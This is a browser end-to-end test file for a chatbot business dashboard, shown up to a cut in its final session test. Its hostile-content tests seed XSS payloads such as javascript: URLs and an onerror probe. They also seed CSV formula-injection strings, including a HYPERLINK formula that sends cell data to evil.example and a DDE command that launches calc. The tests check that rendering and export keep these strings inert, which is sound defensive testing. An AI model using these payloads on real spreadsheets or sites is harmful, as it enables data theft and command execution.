// The dashboard as a business meets it, in real Chromium against the real server (embedded backends,
// offline answerer, the help-center corpus on loopback): the first-site journey end to end, every
// main page at desktop and mobile width (screenshots, axe, no CSP violations), uploads, hostile
// content that must stay text, the CSV export, a Member's read-only view and the session's life.
import { readFileSync } from 'node:fs';
import { randomUUID } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import path from 'node:path';
import { describeBrowser, launchBrowser, repoRoot } from './browser.ts';
import { startCloop, type RunningCloop } from './dashboard-server.ts';
import { apiFromPage, axe, openPage, screenshot, settle, severe, signIn, tenantOf, viewports, type Watched } from './dashboard-helpers.ts';
import { seedConversations, xssPayloads } from '../test/conversation-seed.ts';

describeBrowser('dashboard', () => {
  let cloop: RunningCloop;
  let browser: Browser;
  let owner: Watched;
  // The first Owner of a fresh server: whom the link `npm start` prints signs in.
  const ownerEmail = 'owner@localhost';
  let siteId = '';
  const opened: Watched[] = [];

  /** A watched page, closed after the file. */
  async function open(...args: Parameters<typeof openPage>): Promise<Watched> {
    const w = await openPage(...args);
    opened.push(w);
    return w;
  }

  beforeAll(async () => {
    [cloop, browser] = await Promise.all([startCloop(), launchBrowser()]);
    owner = await open(browser, viewports.desktop, { permissions: ['clipboard-read', 'clipboard-write'] });
  });
  afterAll(async () => {
    for (const w of opened) await w.context.close().catch(() => {});
    await browser?.close();
    await cloop?.close();
  });

  /** Goes to an app path and waits for the page to settle. */
  async function visit(page: Page, path: string): Promise<void> {
    await page.goto(`${cloop.origin}/app${path}`);
    await settle(page);
  }

  describe.sequential('a new user', () => {
    it('signs in with the printed link, builds a bot from the help center and watches it read the site live', async () => {
      const { page } = owner;
      await signIn(page, await cloop.printedSigninLink());
      // The single-use secret left the address bar at once; a new workspace starts the first-site flow.
      await page.waitForURL(`${cloop.origin}/app/start`);
      expect(await page.evaluate(() => location.hash)).toBe('');
      await settle(page);
      await screenshot(page, 'onboarding-site-desktop');

      await page.getByLabel('Site name').fill('Help center');
      await page.getByLabel('Website address').fill(`${cloop.helpCenter.origin}/`);
      await page.getByRole('button', { name: 'Create site' }).click();
      await page.waitForURL(/\/app\/start\/[0-9a-f-]{36}\?step=content/);
      siteId = new URL(page.url()).pathname.split('/')[3]!;
      await expect(page.locator('#source-url').inputValue()).resolves.toBe(`${cloop.helpCenter.origin}/`);

      // Record what the progress bar and the status show while the crawl runs (server-sent events via fetch).
      await page.evaluate(() => {
        const seen: string[] = [];
        (window as unknown as { __seen: string[] }).__seen = seen;
        new MutationObserver(() => {
          const bar = document.querySelector('.source [role=progressbar]');
          const badge = document.querySelector('.source .badge');
          seen.push(`${badge?.textContent}|${bar?.getAttribute('aria-valuenow') ?? ''}|${document.querySelector('.source .progress-line')?.textContent ?? ''}`);
        }).observe(document.body, { subtree: true, childList: true, attributes: true, characterData: true });
      });
      await page.getByRole('button', { name: 'Start reading' }).click();
      await page.locator('.source .badge', { hasText: 'Ready' }).waitFor({ timeout: 120_000 });
      const seen = await page.evaluate(() => (window as unknown as { __seen: string[] }).__seen);
      const running = seen.filter((s) => /^(Waiting|Reading|Processing)\|/.test(s));
      expect(running.length, `live states seen: ${seen.slice(0, 5).join(' / ')}`).toBeGreaterThan(1);
      // The counts moved while it ran: at least two different progress lines before "Ready".
      expect(new Set(running.map((s) => s.split('|')[2])).size).toBeGreaterThan(1);
      await expect(page.locator('.source [role=progressbar]').getAttribute('aria-valuenow')).resolves.toBe('100');
      const summary = await page.locator('.source .progress-line').textContent();
      expect(Number(/(\d+) added/.exec(summary ?? '')?.[1] ?? 0)).toBeGreaterThan(10);
      await screenshot(page, 'onboarding-content-desktop');
    }, 240_000);

    it('chats with the real widget in the preview and leaves an email there', async () => {
      const { page } = owner;
      await page.getByRole('button', { name: 'Next: try your assistant' }).click();
      await page.waitForURL(/step=try/);
      const widget = page.frameLocator('iframe.preview-frame');
      const input = widget.locator('cloop-widget #cloop-input');
      await input.fill('How do I change my default search engine?');
      await input.press('Enter');
      const answer = widget.locator('cloop-widget .msg.bot').last();
      await answer.locator('.src li').first().waitFor({ timeout: 30_000 });
      await expect(answer.textContent()).resolves.toMatch(/search engine/i);

      await input.fill('Can someone contact me?');
      await input.press('Enter');
      const email = widget.locator('cloop-widget #cloop-email');
      await email.waitFor({ timeout: 30_000 });
      await email.fill('visitor@example.com');
      await email.press('Enter');
      await email.waitFor({ state: 'detached' });
      await screenshot(page, 'onboarding-try-desktop');
    }, 120_000);

    it('copies the embed snippet with the site key', async () => {
      const { page } = owner;
      await page.getByRole('button', { name: 'Next: add it to your website' }).click();
      await page.waitForURL(/step=install/);
      const site = (await apiFromPage<{ embedKey: string }>(page, `/sites/${siteId}`)).body;
      const expected = `<script src="${cloop.origin}/widget.js" data-site="${site.embedKey}" async></script>`;
      await expect(page.locator('pre.code').textContent()).resolves.toBe(expected);
      await page.getByRole('button', { name: 'Copy the code' }).click();
      await page.getByText('Copied.').waitFor();
      await expect(page.evaluate(() => navigator.clipboard.readText())).resolves.toBe(expected);
      await screenshot(page, 'onboarding-install-desktop');
    });

    it('finds the conversation in the inbox with its transcript, phase, sources and confidence', async () => {
      const { page } = owner;
      await page.getByRole('link', { name: 'Done: go to your inbox' }).click();
      await page.waitForURL(/\/conversations$/);
      await settle(page);
      const item = page.locator('.conversation').first();
      await expect(item.locator('.question').textContent()).resolves.toBe('How do I change my default search engine?');
      await expect(item.textContent()).resolves.toContain('visitor@example.com');
      await item.locator('a').click();
      await page.waitForURL(/\/conversations\/[0-9a-f-]{36}$/);
      await settle(page);
      await expect(page.locator('.message.user .bubble').allTextContents()).resolves.toEqual(['How do I change my default search engine?', 'Can someone contact me?']);
      await expect(page.locator('.facts').textContent()).resolves.toMatch(/Entry page.*\/app\/preview\.html.*Wants contact.*visitor@example\.com/s);
      expect(await page.locator('.message.assistant .cited li').count()).toBeGreaterThan(0);
      await expect(page.locator('.message.assistant .answer-meta').first().textContent()).resolves.toMatch(/Confidence \d+%/);
      await expect(page.locator('.phase-change').allTextContents()).resolves.toEqual(['Phase now: Exploring', 'Phase now: Wants contact']);
    });

    it('marks the lead contacted, and it stays so', async () => {
      const { page } = owner;
      await visit(page, `/sites/${siteId}/leads`);
      const status = page.getByLabel('Status of visitor@example.com');
      await expect(status.inputValue()).resolves.toBe('new');
      const saved = page.waitForResponse((r) => r.request().method() === 'PATCH' && r.url().includes('/leads/'));
      await status.selectOption('contacted');
      expect((await saved).status()).toBe(200);
      await page.reload();
      await settle(page);
      await expect(page.getByLabel('Status of visitor@example.com').inputValue()).resolves.toBe('contacted');
      const leads = await apiFromPage<{ items: { email: string; status: string }[] }>(page, `/sites/${siteId}/leads`);
      expect(leads.body.items).toMatchObject([{ email: 'visitor@example.com', status: 'contacted' }]);
    });

    it('filters the inbox by lead status, phase and text', async () => {
      const { page } = owner;
      await visit(page, `/sites/${siteId}/conversations`);
      const shown = () => page.locator('.conversation .question').allTextContents();
      await page.getByLabel('Lead', { exact: true }).selectOption('contacted');
      await page.getByRole('button', { name: 'Apply filters' }).click();
      await expect.poll(shown).toEqual(['How do I change my default search engine?']);
      expect(new URL(page.url()).searchParams.get('lead')).toBe('contacted');
      await page.getByLabel('Phase', { exact: true }).selectOption('exploring');
      await page.getByRole('button', { name: 'Apply filters' }).click();
      await page.getByText('No conversations match these filters.').waitFor();
      await page.getByRole('button', { name: 'Clear' }).click();
      await page.getByLabel('Text', { exact: true }).fill('contact me');
      await page.getByRole('button', { name: 'Apply filters' }).click();
      await expect.poll(shown).toEqual(['How do I change my default search engine?']);
      await page.getByLabel('Text', { exact: true }).fill('no such words anywhere');
      await page.getByRole('button', { name: 'Apply filters' }).click();
      await page.getByText('No conversations match these filters.').waitFor();
    });

    it('edits the widget with a live preview of the real widget, before and after saving, and rotates the key', async () => {
      const { page } = owner;
      await visit(page, `/sites/${siteId}/settings`);
      const widget = page.frameLocator('iframe.preview-frame');
      await widget.locator('cloop-widget [role=dialog]').waitFor();
      await page.getByLabel('Greeting').fill('Welcome to the help center!');
      await page.getByRole('button', { name: 'Add a starter question' }).click();
      await page.getByLabel('Starter question 1', { exact: true }).fill('How do I clear my history?');
      await page.getByText('Bottom left').click();
      // The draft shows in the preview before it is saved.
      await widget.getByText('Welcome to the help center!').waitFor({ timeout: 15_000 });
      // The preview continues the earlier conversation, so starter chips may be there but hidden.
      await widget.getByText('How do I clear my history?').waitFor({ state: 'attached' });
      await page.getByRole('button', { name: 'Save widget settings' }).click();
      await page.getByText('Saved.').first().waitFor();
      const saved = await apiFromPage<{ settings: { greeting: string; starterQuestions: string[]; position: string } }>(page, `/sites/${siteId}`);
      expect(saved.body.settings).toMatchObject({ greeting: 'Welcome to the help center!', starterQuestions: ['How do I clear my history?'], position: 'bottom-left' });

      const before = await page.locator('pre.code').textContent();
      await page.getByRole('button', { name: 'Replace the key' }).click();
      await page.getByText('Stop the current code everywhere now?').waitFor();
      await page.getByRole('button', { name: 'Yes, replace the key' }).click();
      await expect.poll(() => page.locator('pre.code').textContent()).not.toBe(before);
      const site = await apiFromPage<{ embedKey: string }>(page, `/sites/${siteId}`);
      await expect(page.locator('pre.code').textContent()).resolves.toContain(`data-site="${site.body.embedKey}"`);
    }, 60_000);

    it('tests a question against the knowledge base and sees passages with scores', async () => {
      const { page } = owner;
      await visit(page, `/sites/${siteId}/knowledge`);
      await page.getByRole('searchbox', { name: 'Question' }).fill('change the default search engine');
      await page.getByRole('button', { name: 'Search' }).click();
      const hits = page.locator('.hits li');
      await hits.first().waitFor();
      expect(await hits.count()).toBeGreaterThan(2);
      await expect(hits.first().textContent()).resolves.toMatch(/Score 0\.\d{4}/);
    });

    it('uploads documents by drag and drop and the file chooser, each with its own progress and error', async () => {
      const { page } = owner;
      await visit(page, `/sites/${siteId}/knowledge`);
      // Drag and drop: a real DataTransfer with a file, dropped on the zone.
      await page.evaluate(() => {
        const dt = new DataTransfer();
        dt.items.add(new File(['# Returns\n\nYou can return any order within 30 days for a full refund.\n'], 'returns.md', { type: 'text/markdown' }));
        document.querySelector('.dropzone')!.dispatchEvent(new DragEvent('drop', { dataTransfer: dt, bubbles: true, cancelable: true }));
      });
      await page.locator('input[type=file]').setInputFiles([
        { name: 'fake.pdf', mimeType: 'application/pdf', buffer: Buffer.from('this is not a PDF at all') },
        { name: 'huge.txt', mimeType: 'text/plain', buffer: Buffer.alloc(5 * 1024 * 1024 + 1, 'a') },
      ]);
      const items = page.locator('.upload-list li');
      await expect.poll(() => items.count()).toBe(3);
      await items.filter({ hasText: 'returns.md' }).getByText('Uploaded.').waitFor({ timeout: 30_000 });
      await items.filter({ hasText: 'fake.pdf' }).getByRole('alert').waitFor({ timeout: 30_000 });
      await expect(items.filter({ hasText: 'fake.pdf' }).getByRole('alert').textContent()).resolves.toMatch(/does not match its extension/);
      await expect(items.filter({ hasText: 'huge.txt' }).getByRole('alert').textContent()).resolves.toBe('This file is larger than your plan allows (5.0 MB).');
      await page.locator('.source', { hasText: 'returns.md' }).locator('.badge', { hasText: 'Ready' }).waitFor({ timeout: 60_000 });
    }, 120_000);
  });

  describe.sequential('every main page', () => {
    const pages = () => [
      { name: 'conversations', path: `/sites/${siteId}/conversations` },
      { name: 'transcript', path: 'first-transcript' },
      { name: 'leads', path: `/sites/${siteId}/leads` },
      { name: 'knowledge', path: `/sites/${siteId}/knowledge` },
      { name: 'insights', path: `/sites/${siteId}/insights` },
      { name: 'settings', path: `/sites/${siteId}/settings` },
      { name: 'usage', path: '/usage' },
      { name: 'team', path: '/team' },
      { name: 'audit', path: '/audit' },
      { name: 'account', path: '/account' },
      { name: 'onboarding-site', path: '/start' },
      { name: 'onboarding-content', path: `/start/${siteId}?step=content` },
      { name: 'onboarding-try', path: `/start/${siteId}?step=try` },
      { name: 'onboarding-install', path: `/start/${siteId}?step=install` },
    ];

    async function checkAll(w: Watched, suffix: string): Promise<void> {
      const { page } = w;
      const conversations = await apiFromPage<{ items: { id: string }[] }>(page, `/sites/${siteId}/conversations`);
      const problems: string[] = [];
      for (const p of pages()) {
        await visit(page, p.path === 'first-transcript' ? `/sites/${siteId}/conversations/${conversations.body.items[0]!.id}` : p.path);
        if (p.name === 'onboarding-try' || p.name === 'settings') await page.frameLocator('iframe.preview-frame').locator('cloop-widget [role=dialog]').waitFor();
        await screenshot(page, `${p.name}-${suffix}`);
        const found = await axe(page);
        for (const f of severe(found.page)) problems.push(`${p.name}: ${f.id} (${f.impact}) ${f.targets.join(', ')}`);
        for (const f of severe(found.preview)) problems.push(`${p.name} (widget preview): ${f.id} (${f.impact}) ${f.targets.join(', ')}`);
      }
      expect(problems, 'serious or critical axe violations').toEqual([]);
      expect(w.csp, 'CSP violations').toEqual([]);
      expect(w.errors, 'page errors').toEqual([]);
    }

    it('at desktop width: screenshots, no serious axe violations, no CSP violations, no errors', async () => {
      await checkAll(owner, 'desktop');
    }, 240_000);

    it('at mobile width', async () => {
      const mobile = await open(browser, viewports.mobile, { isMobile: true, hasTouch: true });
      await signIn(mobile.page, await cloop.signinLink(ownerEmail));
      await checkAll(mobile, 'mobile');
      // The navigation folds behind a menu button on small screens.
      await visit(mobile.page, `/sites/${siteId}/leads`);
      await expect(mobile.page.locator('nav#nav').isVisible()).resolves.toBe(false);
      await mobile.page.getByRole('button', { name: 'Menu' }).click();
      await mobile.page.getByRole('link', { name: 'Insights' }).click();
      await mobile.page.waitForURL(/\/insights$/);
    }, 240_000);

    it('in the dark theme', async () => {
      const dark = await open(browser, viewports.desktop, { colorScheme: 'dark' });
      await signIn(dark.page, await cloop.signinLink(ownerEmail));
      const problems: string[] = [];
      for (const p of [`/sites/${siteId}/conversations`, `/sites/${siteId}/knowledge`, `/sites/${siteId}/insights`, '/account']) {
        await visit(dark.page, p);
        await expect(dark.page.evaluate(() => document.documentElement.dataset.theme)).resolves.toBe('dark');
        for (const f of severe((await axe(dark.page)).page)) problems.push(`${p}: ${f.id} ${f.targets.join(', ')}`);
      }
      await screenshot(dark.page, 'account-dark-desktop');
      expect(problems).toEqual([]);
    }, 120_000);

    it('in Finnish: a Finnish browser gets Finnish at once; a choice on the account page wins and stays', async () => {
      const fi = await open(browser, viewports.desktop, { locale: 'fi-FI' });
      await signIn(fi.page, await cloop.signinLink(ownerEmail));
      await visit(fi.page, '/account');
      const nav = fi.page.locator('nav#nav');
      await nav.getByRole('link', { name: 'Käyttö ja budjetti' }).waitFor();
      await expect(fi.page.evaluate(() => document.documentElement.lang)).resolves.toBe('fi');
      await screenshot(fi.page, 'account-fi-desktop');
      await fi.page.locator('#pref-lang').selectOption('en');
      await nav.getByRole('link', { name: 'Usage & budget' }).waitFor();
      await visit(fi.page, '/account');
      await nav.getByRole('link', { name: 'Usage & budget' }).waitFor();
      // Switching to Finnish translates the navigation at once.
      await fi.page.locator('#pref-lang').selectOption('fi');
      await nav.getByRole('link', { name: 'Käyttö ja budjetti' }).waitFor({ timeout: 5_000 });
      expect(fi.errors).toEqual([]);
    }, 60_000);

    it('is a small production build: initial JS under 200 KB gzipped, hashed assets cached for a year, no source maps', async () => {
      const size = JSON.parse(readFileSync(path.join(repoRoot, 'dist/dashboard/size.json'), 'utf8')) as { initialJs: string[]; gzipBytes: number };
      expect(size.gzipBytes).toBeLessThan(200 * 1024);
      const html = await (await fetch(`${cloop.origin}/app/`)).text();
      const scripts = [...html.matchAll(/<script[^>]*>/g)].map((m) => m[0]);
      expect(scripts.every((tag) => /src="\/app\/assets\/index-[\w-]+\.js"/.test(tag))).toBe(true);
      for (const file of size.initialJs) {
        const res = await fetch(`${cloop.origin}/app/${file}`);
        expect(res.headers.get('cache-control')).toBe('public, max-age=31536000, immutable');
        const js = await res.text();
        expect(js).not.toContain('sourceMappingURL');
        // React's development bundle (what a build under NODE_ENV=test would ship) mentions itself.
        expect(js).not.toMatch(/\bdevelopment\b/);
      }
    });

    it('the sign-in page', async () => {
      for (const [size, viewport] of Object.entries(viewports)) {
        const w = await open(browser, viewport);
        await w.page.goto(`${cloop.origin}/`);
        await w.page.waitForURL(`${cloop.origin}/app/`);
        await w.page.getByRole('heading', { name: 'Sign in to Cloop' }).waitFor();
        await w.page.getByText('npm run cloop -- signin-link').waitFor();
        await screenshot(w.page, `signin-${size}`);
        expect(severe((await axe(w.page)).page)).toEqual([]);
        expect(w.csp).toEqual([]);
      }
    }, 60_000);
  });

  describe.sequential('hostile content', () => {
    let xss: Watched;
    let xssSite = '';
    let dialogs = 0;
    const payloads = xssPayloads();
    const formulas = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+1+2', '-2+3', '@SUM(1,2)', '\t=1+1', '=cmd|\' /C calc\'!A0'];

    beforeAll(async () => {
      // CSP is bypassed here on purpose: the rendering itself must keep every payload inert.
      xss = await open(browser, viewports.desktop, { bypassCSP: true });
      xss.page.on('dialog', (d) => {
        dialogs++;
        void d.dismiss();
      });
      await xss.context.addInitScript(() => {
        const w = window as unknown as Record<string, unknown> & { __xss: string[] };
        w.__xss = [];
        for (const name of ['alert', 'confirm', 'prompt', 'print', 'open']) w[name] = (...args: unknown[]) => void w.__xss.push(`${name}(${args.join(',')})`);
      });
      await signIn(xss.page, await cloop.signinLink());
      const created = await apiFromPage<{ id: string }>(xss.page, '/sites', { method: 'POST', body: { name: 'Hostile', domains: [] } });
      xssSite = created.body.id;
      const tenantId = await tenantOf(xss.page);
      // Three long conversations carry every payload (as visitor and as assistant text, and as cited source titles).
      const chunks = [0, 1, 2].map((i) => payloads.slice(Math.floor((i * payloads.length) / 3), Math.floor(((i + 1) * payloads.length) / 3)));
      await seedConversations(
        cloop.deps.database.db,
        tenantId,
        xssSite,
        chunks.map((texts, i) => ({ entryPage: `javascript:alert(${i})`, texts, source: { title: texts[0]!, url: 'javascript:alert(document.domain)' } })),
      );
      // Sixty short ones: payloads as first question, entry page and lead email; then the CSV formula leads.
      await seedConversations(
        cloop.deps.database.db,
        tenantId,
        xssSite,
        payloads.slice(0, 60).map((p, i) => ({ entryPage: payloads[i + 60]!, texts: [p, payloads[i + 120]!], leadEmail: payloads[i + 180]!, source: { title: payloads[i + 240]!, url: payloads[i + 300]! } })),
      );
      await seedConversations(cloop.deps.database.db, tenantId, xssSite, formulas.map((f) => ({ entryPage: f, texts: ['Formula lead'], leadEmail: f })));
    }, 180_000);

    /** Asserts nothing ran and nothing active was created in the main area. */
    async function inert(label: string): Promise<void> {
      const { page } = xss;
      const state = await page.evaluate(() => ({
        calls: (window as unknown as { __xss: string[] }).__xss,
        active: document.querySelectorAll(
          'main script, main iframe, main frame, main object, main embed, main img, main image, main video, main audio, main math, main base, main meta, main link, main [onerror], main [onload], main [onclick], main [onmouseover], main [onfocus], main [srcdoc], main [style*="expression"]',
        ).length,
        badLinks: [...document.querySelectorAll<HTMLAnchorElement>('a[href]')].map((a) => a.getAttribute('href')!).filter((h) => !/^(\/app\/|https?:\/\/|#main$)/.test(h)),
      }));
      expect(state.calls, `${label}: script calls`).toEqual([]);
      expect(dialogs, `${label}: dialogs`).toBe(0);
      expect(state.active, `${label}: active elements`).toBe(0);
      expect(state.badLinks, `${label}: links`).toEqual([]);
    }

    it('would notice a payload that runs (control: the same markup inserted as HTML here does run)', async () => {
      const { page } = xss;
      await visit(page, `/sites/${xssSite}/conversations`);
      await page.evaluate(() => {
        const probe = document.createElement('div');
        probe.id = 'probe';
        probe.innerHTML = '<img src="x:" onerror="alert(\'control\')">';
        document.body.appendChild(probe);
      });
      await expect.poll(() => page.evaluate(() => (window as unknown as { __xss: string[] }).__xss)).toEqual(['alert(control)']);
      await page.evaluate(() => {
        document.getElementById('probe')!.remove();
        (window as unknown as { __xss: string[] }).__xss.length = 0;
      });
    });

    it('shows every XSS payload of the corpus as text in transcripts, and none runs', async () => {
      const { page } = xss;
      await visit(page, `/sites/${xssSite}/conversations`);
      const list = await apiFromPage<{ items: { id: string; messageCount: number }[] }>(page, `/sites/${xssSite}/conversations?limit=100`);
      const long = list.body.items.filter((c) => c.messageCount > 100).map((c) => c.id);
      expect(long).toHaveLength(3);
      let shown = 0;
      for (const id of long) {
        await visit(page, `/sites/${xssSite}/conversations/${id}`);
        const texts = await page.locator('.bubble').allTextContents();
        shown += texts.length;
        await inert(`transcript ${id}`);
        // Rendered exactly as written (text nodes, not markup): spot-check against the stored messages.
        const stored = await apiFromPage<{ messages: { text: string }[] }>(page, `/sites/${xssSite}/conversations/${id}`);
        expect(texts).toEqual(stored.body.messages.map((m) => m.text));
      }
      expect(shown).toBe(payloads.length);
      expect(xss.csp).toEqual([]);
    }, 180_000);

    it('keeps payloads inert in the inbox, the leads and insights, page after page', async () => {
      const { page } = xss;
      await visit(page, `/sites/${xssSite}/conversations`);
      for (let n = 1; n <= 3; n++) {
        await inert(`inbox page ${n}`);
        expect(await page.locator('.conversation').count()).toBe(20);
        await page.getByRole('button', { name: 'Next' }).click();
        await page.getByText(`Page ${n + 1}`).waitFor();
        await settle(page);
      }
      const ids = (await apiFromPage<{ items: { id: string; messageCount: number }[] }>(page, `/sites/${xssSite}/conversations?limit=10`)).body.items;
      for (const c of ids.filter((c) => c.messageCount === 2).slice(0, 3)) {
        await visit(page, `/sites/${xssSite}/conversations/${c.id}`);
        await inert(`short transcript ${c.id}`);
      }
      await visit(page, `/sites/${xssSite}/leads`);
      for (let n = 1; n <= 3; n++) {
        await inert(`leads page ${n}`);
        await page.getByRole('button', { name: 'Next' }).click();
        await page.getByText(`Page ${n + 1}`).waitFor();
        await settle(page);
      }
      await visit(page, `/sites/${xssSite}/insights`);
      await inert('insights');
      await screenshot(page, 'xss-insights-desktop');
      expect(xss.errors).toEqual([]);
    }, 180_000);

    it('exports leads as CSV only on a plan with lead export, with formula cells neutralized', async () => {
      const { page } = xss;
      await visit(page, `/sites/${xssSite}/leads`);
      await page.getByRole('button', { name: 'Export CSV' }).click();
      await expect(page.getByRole('alert').first().textContent()).resolves.toMatch(/Your plan \(Free\) does not include this: Lead export \(CSV\)\./);
      await page.getByRole('link', { name: 'See plans' }).click();
      await page.waitForURL(/\/account$/);
      await page.locator('#tier').selectOption('pro');
      await page.getByRole('button', { name: 'Change plan' }).click();
      await page.getByRole('group').getByRole('button', { name: 'Change plan' }).click();
      await page.locator('#plan-h .badge', { hasText: 'Pro' }).waitFor();

      await visit(page, `/sites/${xssSite}/leads`);
      const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Export CSV' }).click()]);
      const csv = readFileSync((await download.path())!, 'utf8');
      const rows = parse(csv, { relax_quotes: false }) as string[][];
      expect(rows[0]).toEqual(['email', 'status', 'created_at', 'entry_page', 'phase', 'conversation_id']);
      expect(rows).toHaveLength(1 + 60 + formulas.length);
      for (const f of formulas) expect(rows.some((r) => r[0] === `'${f}` && r[3] === `'${f}`), f).toBe(true);
      const dangerous = rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell));
      expect(dangerous).toEqual([]);
    }, 120_000);

    it('shows the audit log on a plan that has it, filtered by action', async () => {
      const { page } = xss;
      await visit(page, '/audit');
      const actions = () => page.locator('tbody code').allTextContents();
      await expect.poll(actions).toEqual(expect.arrayContaining(['lead.exported', 'tenant.tier_changed', 'site.created']));
      await screenshot(page, 'audit-pro-desktop');
      expect(severe((await axe(page)).page)).toEqual([]);
      await page.getByLabel('Action', { exact: true }).fill('lead.');
      await page.getByRole('button', { name: 'Apply filters' }).click();
      await expect.poll(actions).toEqual(['lead.exported']);
    });

    it('deletes a conversation after asking', async () => {
      const { page } = xss;
      const list = await apiFromPage<{ items: { id: string }[] }>(page, `/sites/${xssSite}/conversations?limit=100`);
      const id = list.body.items[0]!.id;
      await visit(page, `/sites/${xssSite}/conversations/${id}`);
      await page.getByRole('button', { name: 'Delete conversation' }).click();
      await page.getByRole('group').getByRole('button', { name: 'Delete' }).click();
      await page.waitForURL(new RegExp(`/sites/${xssSite}/conversations$`));
      expect((await apiFromPage(page, `/sites/${xssSite}/conversations/${id}`)).status).toBe(404);
    });

    it('downloads the whole workspace as JSON, then terminates it after the typed name, stating when the data goes', async () => {
      const { page } = xss;
      await visit(page, '/account');
      const [exported] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Download export' }).click()]);
      expect(exported.suggestedFilename()).toMatch(/^cloop-export-\d{4}-\d{2}-\d{2}\.json$/);
      const data = JSON.parse(readFileSync((await exported.path())!, 'utf8')) as { sites: { id: string }[]; leads: unknown[]; conversations: unknown[] };
      expect(data.sites.map((x) => x.id)).toContain(xssSite);
      // The leads seeded above (less the one whose conversation the test before deleted, if it had one).
      expect(data.leads.length).toBeGreaterThanOrEqual(60 + formulas.length - 1);
      await page.getByText('The data is kept for 30 days and then deleted for good.', { exact: false }).waitFor();
      const terminate = page.getByRole('button', { name: 'Terminate workspace' });
      const tenantName = (await apiFromPage<{ name: string }>(page, '/tenant')).body.name;
      await page.getByLabel(`Type the workspace name “${tenantName}” to confirm`).fill('not the name');
      expect(await terminate.isDisabled()).toBe(true);
      await page.getByLabel(`Type the workspace name “${tenantName}” to confirm`).fill(tenantName);
      await terminate.click();
      await page.getByRole('heading', { name: 'Workspace terminated' }).waitFor();
      const purge = new Date(Date.now() + 30 * 86_400_000);
      await expect(page.getByRole('status').last().textContent()).resolves.toContain(String(purge.getUTCFullYear()));
      expect((await apiFromPage(page, '/tenant')).status).toBe(401);
      await page.getByRole('status', { name: 'Workspace terminated' }).getByRole('button', { name: 'Sign out' }).click();
      await page.getByRole('heading', { name: 'Sign in to Cloop' }).waitFor();
    });
  });

  describe.sequential('roles and sessions', () => {
    it('invites a Member by link; they join, switch workspaces and see read-only views', async () => {
      const { page } = owner;
      const memberEmail = `member-${randomUUID()}@example.com`;
      await visit(page, '/team');
      await page.getByLabel('Email').fill(memberEmail);
      await page.getByRole('button', { name: 'Create invitation link' }).click();
      const inviteUrl = (await page.locator('.note.success pre.code').textContent())!;
      expect(inviteUrl).toMatch(new RegExp(`^${cloop.origin}/app/#invite=[\\w-]+$`));
      await expect(page.locator('.plain-list').textContent()).resolves.toContain(memberEmail);

      const member = await open(browser, viewports.desktop);
      await member.page.goto(inviteUrl);
      await member.page.getByText('Sign in to accept your invitation').waitFor();
      expect(new URL(member.page.url()).hash).toBe('');
      await signIn(member.page, await cloop.signinLink(memberEmail));
      await member.page.getByText('You joined the workspace as a Member.').waitFor();
      const switcher = member.page.getByLabel('Workspace');
      await expect(switcher.locator('option').count()).resolves.toBe(2);

      await visit(member.page, `/sites/${siteId}/settings`);
      await expect(member.page.getByRole('button', { name: 'Save widget settings' }).count()).resolves.toBe(0);
      await expect(member.page.getByLabel('Greeting').isDisabled()).resolves.toBe(true);
      await expect(member.page.getByRole('button', { name: 'Replace the key' }).count()).resolves.toBe(0);
      await expect(member.page.getByRole('link', { name: 'Audit log' }).count()).resolves.toBe(0);
      await expect(member.page.getByRole('link', { name: 'Add a site' }).count()).resolves.toBe(0);
      await screenshot(member.page, 'settings-member-desktop');
      await visit(member.page, `/sites/${siteId}/knowledge`);
      await expect(member.page.getByRole('button', { name: 'Start reading' }).count()).resolves.toBe(0);
      await expect(member.page.getByRole('button', { name: 'Read again' }).count()).resolves.toBe(0);
      await visit(member.page, `/sites/${siteId}/leads`);
      await expect(member.page.locator('.table select').count()).resolves.toBe(0);
      await expect(member.page.getByRole('button', { name: 'Export CSV' }).count()).resolves.toBe(0);
      await visit(member.page, '/team');
      await expect(member.page.getByRole('button', { name: 'Create invitation link' }).count()).resolves.toBe(0);

      // Back to their own workspace: no sites there yet.
      const own = await switcher.locator('option').nth(0).getAttribute('value');
      await member.page.getByLabel('Workspace').selectOption(own!);
      await member.page.getByRole('heading', { name: 'Set up your assistant' }).waitFor();
      expect(member.errors).toEqual([]);
    }, 120_000);

    it('lets an owner set the daily cap, and says so when it is used up', async () => {
      const { page } = owner;
      await visit(page, '/usage');
      await expect(page.getByText('used up').count()).resolves.toBe(0);
      await page.getByLabel('Daily cap (US dollars)').fill('0');
      await page.getByRole('button', { name: 'Save' }).click();
      await page.getByText(/Today’s AI budget \(\$0\.00\) is used up/).waitFor();
      await screenshot(page, 'usage-cap-hit-desktop');
      await page.getByLabel('Daily cap (US dollars)').fill('5');
      await page.getByRole('button', { name: 'Save' }).click();
      await expect.poll(() => page.getByText('used up').count()).toBe(0);
    });

    it('refreshes an expired access token once for many parallel calls, and signs out when the session is revoked', async () => {
      const { page } = owner;
      await visit(page, '/usage');
      const refreshes: number[] = [];
      page.on('request', (r) => {
        if (r.url().endsWith('/api/auth/refresh')) refreshes.push(Date.now());
      });
      const before = await page.evaluate(() => JSON.parse(localStorage.getItem('cloop.session')!) as { refreshToken: string });
      await page.evaluate(() => {
        const s = JSON.parse(localStorage.getItem('cloop.session')!) as { expiresAt: number };
        localStorage.setItem('cloop.session', JSON.stringify({ ...s, expiresAt: Date.now() - 1000 }));
      });
      await visit(page, `/sites/${siteId}/insights`);
      expect(refreshes).toHaveLength(1);
      const after = await page.evaluate(() => JSON.parse(localStorage.getItem('cloop.session')!) as { refreshToken: string; expiresAt: number });
      expect(after.refreshToken).not.toBe(before.refreshToken);
      expect(after.expiresAt).toBeGreaterThan(Date.now());

      // Every session ends; the next refresh fails and the dashboard says so on the sign-in page.
      expect((await apiFromPage(page, '/auth/logout-all', { method: 'POST' })).status).toBe(200);
      await page.evaluate(() => {
        const s = JSON.parse(localStorage.getItem('cloop.session')!) as { expiresAt: number };
        localStorage.setItem('cloop.session', JSON.stringify({ ...s, expiresAt: Date.now() - 1000 }));
      });
      await page.goto(`${cloop.origin}/app/usage`);
      await page.getByRole('heading', { name: 'Sign in to Cloop' }).waitFor();
      await page.getByText('Your session has ended. Sign in again.').waitFor();
